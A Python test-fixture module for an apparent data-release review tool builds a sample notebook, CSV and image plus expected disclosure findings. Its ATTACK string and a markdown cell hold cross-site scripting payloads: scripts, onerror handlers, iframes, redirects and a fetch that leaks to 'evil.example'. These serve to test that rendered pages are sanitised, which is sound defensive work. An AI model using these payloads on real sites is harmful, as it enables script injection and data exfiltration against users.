"""Files that the tests of pages ask to be released."""

import io

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image

from ecluse.rules.finding import Finding, Place, Severity

TABLE = "région,n,moyenne\n" + "".join(f"Région {i},{i * 3 + 12},{i / 7:.2f}\n" for i in range(40))
LONG = "n\n" + "".join(f"{i}\n" for i in range(20_500))

ATTACK = """<p id=x>Résultats</p><script>parent.document.title='owned'; fetch('https://evil.example/leak')</script>
<img src=x onerror="parent.document.title='owned'"><img src="https://evil.example/pixel.png">
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><button>Vote</button></form>
<a href="https://evil.example/" target="_top">lien</a><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style>
<table><tr><th>groupe</th><th>n</th></tr><tr><td onclick="parent.x=1">Île-de-France</td><td>18</td></tr></table>"""


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (320, 200), "white").save(out, "PNG")
    return out.getvalue()


def notebook(html: str = ATTACK) -> bytes:
    cells = [
        new_markdown_cell("# Survie\n\nDonnées : [GBSG2](https://evil.example/)\n\n<script>alert(1)</script>"),
        new_code_cell(
            "kmf.fit(df['time'], df['cens'])  # par groupe",
            outputs=[new_output("display_data", {"text/html": html, "text/plain": "groupe n"})],
        ),
    ]
    return nbformat.writes(new_notebook(cells=cells, metadata={"language_info": {"name": "python"}})).encode()


FILES = {"résultats/km.ipynb": notebook(), "table2.csv": TABLE.encode(), "fig/km.png": png()}


def finding(rule: str, message: str, severity: Severity = Severity.REVIEW, **place: int) -> Finding:
    return Finding(
        rule=rule,
        severity=severity,
        where="row 'Île-de-France', column 'n'",
        message=message,
        fix="Merge it with another region.",
        place=Place.model_validate(place),
    )


FINDINGS = {
    "résultats/km.ipynb": [
        finding("differencing", "18 − 14 = 4 persons, with release alpha-0.", cell=1, output=0, row=0, column=1),
        finding("code", "The code stays in the file.", Severity.NOTE, cell=1),
    ],
    "table2.csv": [finding("small-count", "A count near the minimum.", row=30, column=1)],
}
